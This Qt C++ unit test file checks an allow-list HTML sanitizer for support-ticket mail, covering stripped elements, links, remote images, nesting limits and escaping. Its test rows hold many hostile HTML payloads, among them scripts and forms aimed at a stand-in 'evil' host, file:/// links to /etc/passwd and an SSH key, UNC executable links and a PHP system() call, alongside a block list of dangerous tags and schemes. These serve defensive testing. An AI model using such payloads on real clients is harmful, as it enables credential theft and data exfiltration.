// The allow-list sanitizer against hostile ticket HTML: what goes, what stays, and that the
// output never carries a way to load, run or open anything.

#include "content/HtmlSanitizer.h"
#include "content/LinkPolicy.h"

#include <QRegularExpression>
#include <QTest>

namespace {

// Properties every sanitized output must have, whatever went in.
QString unsafeIn(const HtmlSanitizer::Result &result)
{
    const QString &html = result.html;
    static const QRegularExpression tag(QStringLiteral("<\\s*/?\\s*([a-zA-Z0-9]+)([^>]*)>"));
    static const QRegularExpression attribute(QStringLiteral("\\s([a-z-]+)=\"([^\"]*)\""));
    static const QSet<QString> allowedAttributes{QStringLiteral("href"),    QStringLiteral("title"),
                                                 QStringLiteral("src"),     QStringLiteral("alt"),
                                                 QStringLiteral("width"),   QStringLiteral("height"),
                                                 QStringLiteral("colspan"), QStringLiteral("rowspan"),
                                                 QStringLiteral("start"),   QStringLiteral("dir")};
    for (auto it = tag.globalMatch(html); it.hasNext();) {
        const auto match = it.next();
        const QString name = match.captured(1).toLower();
        for (const char *banned : {"script", "style", "iframe", "object", "embed", "form", "input", "svg",
                                   "math", "link", "meta", "base", "frame", "frameset", "textarea", "button"})
            if (name == QLatin1String(banned))
                return QStringLiteral("element <%1> survived").arg(name);
        for (auto a = attribute.globalMatch(match.captured(2)); a.hasNext();) {
            const auto attr = a.next();
            const QString attrName = attr.captured(1);
            const QString value = attr.captured(2);
            if (!allowedAttributes.contains(attrName))
                return QStringLiteral("attribute %1 survived").arg(attrName);
            if (attrName == QLatin1String("src") && !value.startsWith(QLatin1String("remote-image:")) &&
                !value.startsWith(QLatin1String("attachment:")))
                return QStringLiteral("image source %1 survived").arg(value);
            if (attrName == QLatin1String("href") && !LinkPolicy::openable(value))
                return QStringLiteral("link %1 survived").arg(value);
        }
    }
    for (const char *needle : {"javascript:", "vbscript:", "file:", "url(", "@import", "expression("})
        if (html.contains(QLatin1String(needle), Qt::CaseInsensitive) &&
            !html.contains(QStringLiteral("&lt;"))) // escaped text may mention them harmlessly
            return QStringLiteral("%1 survived").arg(QLatin1String(needle));
    return {};
}

} // namespace

class HtmlSanitizerTest : public QObject
{
    Q_OBJECT

private slots:
    void hostile_data()
    {
        QTest::addColumn<QString>("html");
        QTest::addColumn<QString>("keptText"); // readable text that must survive ("" for none)
        auto row = [](const char *name, const char *html, const char *text) {
            QTest::newRow(name) << QString::fromUtf8(html) << QString::fromUtf8(text);
        };
        row("script", "<p>Hi</p><script>fetch('http://evil/')</script>", "Hi");
        row("script upper case", "<SCRIPT SRC=http://evil/x.js></SCRIPT>ok", "ok");
        row("script split", "<scr<script>ipt>alert(1)</script>ok", "ok");
        row("style element",
            "<style>@import url(http://evil/a.css); body{background:url(http://evil/b)}</style>ok", "ok");
        row("style attribute", "<div style=\"background:url('http://evil/pixel.gif')\">Dear team</div>",
            "Dear team");
        row("event handlers", "<img src=x onerror=alert(1)><b onclick=\"steal()\">bold</b>", "bold");
        row("iframe", "<iframe src=\"http://evil/\">fallback</iframe>after", "after");
        row("frameset", "<frameset><frame src=http://evil/></frameset>ok", "ok");
        row("object embed", "<object data=\"http://evil/x.swf\"><embed src=\"http://evil/y\"></object>ok",
            "ok");
        row("form", "<form action=\"http://evil/\"><input name=pw type=password><button>Go</button></form>ok",
            "ok");
        row("svg script", "<svg><script>alert(1)</script><image href=\"http://evil/i\"/></svg>ok", "ok");
        row("svg foreignObject",
            "<svg><foreignObject><img src=\"http://evil/p.gif\"></foreignObject></svg>ok", "ok");
        row("math", "<math><mtext><img src=http://evil/></mtext></math>ok", "ok");
        row("javascript link", "<a href=\"javascript:alert(1)\">click</a>", "click");
        row("javascript link with entity", "<a href=\"jav&#x09;ascript:alert(1)\">click</a>", "click");
        row("javascript link spaced", "<a href=\"  javascript:alert(1)\">click</a>", "click");
        row("vbscript link", "<a href=\"vbscript:msgbox\">click</a>", "click");
        row("data link", "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">open</a>", "open");
        row("file link", "<a href=\"file:///etc/passwd\">passwords</a>", "passwords");
        row("unc link", "<a href=\"\\\\evil\\share\\x.exe\">share</a>", "share");
        row("unc image", "<img src=\"\\\\evil\\share\\p.gif\" alt=\"logo\">", "[logo]");
        row("file image", "<img src=\"file:///home/agent/.ssh/id_rsa\">ok", "ok");
        row("data image", "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">ok", "ok");
        row("relative image", "<img src=\"../../etc/passwd\">ok", "ok");
        row("meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=http://evil/\">ok", "ok");
        row("base href", "<base href=\"http://evil/\"><a href=\"/login\">login</a>", "login");
        row("link stylesheet", "<link rel=stylesheet href=\"http://evil/s.css\">ok", "ok");
        row("body background", "<body background=\"http://evil/bg.gif\">ok</body>", "ok");
        row("table background", "<table background=\"http://evil/t.gif\"><tr><td>cell</td></tr></table>",
            "cell");
        row("comment hiding script", "<!--<script>alert(1)</script>-->ok", "ok");
        row("conditional comment", "<!--[if IE]><script>alert(1)</script><![endif]-->ok", "ok");
        row("unclosed tags", "<div><p><b>bold<i>both", "both");
        row("unterminated attribute", "<a href=\"http://evil/ title=x>text", "");
        row("textarea trap", "<textarea><img src=http://evil/p></textarea>ok", "ok");
        row("noscript trap", "<noscript><img src=http://evil/p></noscript>ok", "ok");
        row("template", "<template><img src=http://evil/p></template>ok", "ok");
        row("video poster",
            "<video poster=\"http://evil/p.jpg\"><source src=\"http://evil/v.mp4\"></video>ok", "ok");
        row("audio", "<audio src=\"http://evil/a.mp3\" autoplay></audio>ok", "ok");
        row("picture srcset", "<picture><source srcset=\"http://evil/p.webp\"><img src=\"x\"></picture>ok",
            "ok");
        row("img srcset", "<img srcset=\"http://evil/p 1x\" src=\"cid:logo@x\">ok", "ok");
        row("bidi override", "<p>invoice\u202Efdp.exe</p>", "invoicefdp.exe");
        row("invalid code points", "<p>&#0;&#xD800;&#x110000;ok</p>", "ok");
        row("xml processing", "<?xml version=\"1.0\"?><?php system('x'); ?>ok", "ok");
    }

    void hostile()
    {
        QFETCH(QString, html);
        QFETCH(QString, keptText);
        const HtmlSanitizer::Result result = HtmlSanitizer::sanitize(html);
        const QString problem = unsafeIn(result);
        QVERIFY2(problem.isEmpty(), qPrintable(problem + QStringLiteral(" in: ") + result.html));
        if (!keptText.isEmpty())
            QVERIFY2(HtmlSanitizer::toPlainText(result.html).contains(keptText), qPrintable(result.html));
    }

    void keepsOrdinaryMail()
    {
        const QString mail = QStringLiteral(
            "<div dir=\"ltr\"><p>Hallo <b>Frau M&uuml;ller</b>,</p><ul><li>Rechnung&nbsp;4711</li></ul>"
            "<blockquote>Am Montag schrieb Kunde:<br>Wo bleibt meine Lieferung?</blockquote>"
            "<table><tr><td colspan=\"2\">Summe</td></tr></table>"
            "<p><a href=\"https://example.com/track?id=1&amp;x=2\">Sendung verfolgen</a></p></div>");
        const HtmlSanitizer::Result result = HtmlSanitizer::sanitize(mail);
        QCOMPARE(result.removedElements, 0);
        QVERIFY(result.html.contains(QStringLiteral("<b>Frau Müller</b>")));
        QVERIFY(result.html.contains(QStringLiteral("<blockquote>")));
        QVERIFY(result.html.contains(QStringLiteral("<td colspan=\"2\">")));
        QVERIFY(result.html.contains(QStringLiteral("href=\"https://example.com/track?id=1&amp;x=2\"")));
        QVERIFY(result.html.contains(QStringLiteral("dir=\"ltr\"")));
    }

    void remoteImagesBecomePlaceholders()
    {
        const auto result = HtmlSanitizer::sanitize(QStringLiteral(
            "<img src=\"https://tracker.example/p.gif?u=42\" width=\"1\" height=\"1\">"
            "<img src='http://cdn.example/logo.png' alt=\"Logo\"><img src=\"cid:part1@mail\">"));
        QCOMPARE(result.remoteImages.size(), 2);
        QCOMPARE(result.remoteImages[0], QUrl(QStringLiteral("https://tracker.example/p.gif?u=42")));
        QVERIFY(result.html.contains(QStringLiteral("src=\"remote-image:0\"")));
        QVERIFY(result.html.contains(QStringLiteral("src=\"remote-image:1\" alt=\"Logo\"")));
        QVERIFY(result.html.contains(QStringLiteral("src=\"attachment:part1%40mail\"")));
        QVERIFY(!result.html.contains(QStringLiteral("tracker.example")));
    }

    void linksShowTheirRealTarget()
    {
        const auto result = HtmlSanitizer::sanitize(QStringLiteral(
            "<a href=\"https://yourbank.example@evil.example/login\">https://yourbank.example</a>"));
        QVERIFY(result.html.contains(QStringLiteral("title=\"https://evil.example/login\"")));
    }

    void deepNestingIsFlattened()
    {
        const QString deep = QStringLiteral("<div>").repeated(5000) + QStringLiteral("deep") +
                             QStringLiteral("</div>").repeated(5000);
        const auto result = HtmlSanitizer::sanitize(deep);
        QCOMPARE(result.html.count(QStringLiteral("<div>")), HtmlSanitizer::maxDepth);
        QCOMPARE(result.html.count(QStringLiteral("</div>")), HtmlSanitizer::maxDepth);
        QVERIFY(result.html.contains(QStringLiteral("deep")));
    }

    void deeplyNestedTablesAreFlattened()
    {
        // Each nested table doubles Qt's layout time: beyond the limit only the text stays.
        const QString deep = QStringLiteral("<table><tr><td>a").repeated(30) + QStringLiteral("core") +
                             QStringLiteral("</td><td>b</td></tr></table>").repeated(30) +
                             QStringLiteral("<p>after</p>");
        const auto result = HtmlSanitizer::sanitize(deep);
        QCOMPARE(result.html.count(QStringLiteral("<table>")), HtmlSanitizer::maxTableDepth);
        QCOMPARE(result.html.count(QStringLiteral("</table>")), HtmlSanitizer::maxTableDepth);
        QCOMPARE(result.html.count(QStringLiteral("<td>")), result.html.count(QStringLiteral("</td>")));
        QVERIFY(result.html.contains(QStringLiteral("core")));
        QVERIFY(result.html.endsWith(QStringLiteral("<p>after</p>")));
        // Side by side is not nested: many tables in a row all stay tables.
        const auto flat =
            HtmlSanitizer::sanitize(QStringLiteral("<table><tr><td>x</td></tr></table>").repeated(40));
        QCOMPARE(flat.html.count(QStringLiteral("<table>")), 40);
    }

    void longLinesStayLinear()
    {
        const QString line = QStringLiteral("<p>") + QString(2 * 1024 * 1024, QLatin1Char('a')) +
                             QStringLiteral("&lt;") + QStringLiteral("</p>");
        const auto result = HtmlSanitizer::sanitize(line);
        QCOMPARE(result.html, line); // "&lt;" decodes and is escaped again; the tags stay
    }

    void outputIsWellFormed()
    {
        const auto result = HtmlSanitizer::sanitize(QStringLiteral("<b><i>x</b>y</i><p>z"));
        QCOMPARE(result.html, QStringLiteral("<b><i>x</i></b>y<p>z</p>"));
    }

    void textIsEscaped()
    {
        const auto result = HtmlSanitizer::sanitize(QStringLiteral("1 &lt; 2 &amp;&amp; \"3\" > 2 < b"));
        QCOMPARE(result.html, QStringLiteral("1 &lt; 2 &amp;&amp; &quot;3&quot; &gt; 2 &lt; b"));
    }

    void plainTextForIndexes()
    {
        QCOMPARE(
            HtmlSanitizer::toPlainText(QStringLiteral(
                "<p>Bonjour&nbsp;Madame,</p><p>votre   <b>facture</b> est jointe.</p><script>x()</script>")),
            QStringLiteral("Bonjour Madame,\nvotre facture est jointe."));
    }

    void linkPolicy_data()
    {
        QTest::addColumn<QString>("href");
        QTest::addColumn<bool>("opens");
        QTest::newRow("https") << "https://example.com/a?b=c" << true;
        QTest::newRow("http") << "http://example.com" << true;
        QTest::newRow("mailto") << "mailto:support@example.com" << true;
        QTest::newRow("javascript") << "javascript:alert(1)" << false;
        QTest::newRow("data") << "data:text/html,hi" << false;
        QTest::newRow("file") << "file:///etc/passwd" << false;
        QTest::newRow("unc") << "\\\\host\\share" << false;
        QTest::newRow("smb") << "smb://host/share" << false;
        QTest::newRow("custom scheme") << "deskhand://wipe" << false;
        QTest::newRow("relative") << "/agent/tickets" << false;
        QTest::newRow("no host") << "https:///path" << false;
        QTest::newRow("empty mailto") << "mailto:" << false;
        QTest::newRow("control character") << "https://exa\tmple.com" << false;
        QTest::newRow("bidi override") << QString::fromUtf8("https://example.com/\u202Eexe.pdf") << false;
    }

    void linkPolicy()
    {
        QFETCH(QString, href);
        QFETCH(bool, opens);
        QCOMPARE(LinkPolicy::openable(href).has_value(), opens);
    }
};

QTEST_GUILESS_MAIN(HtmlSanitizerTest)
#include "tst_html_sanitizer.moc"
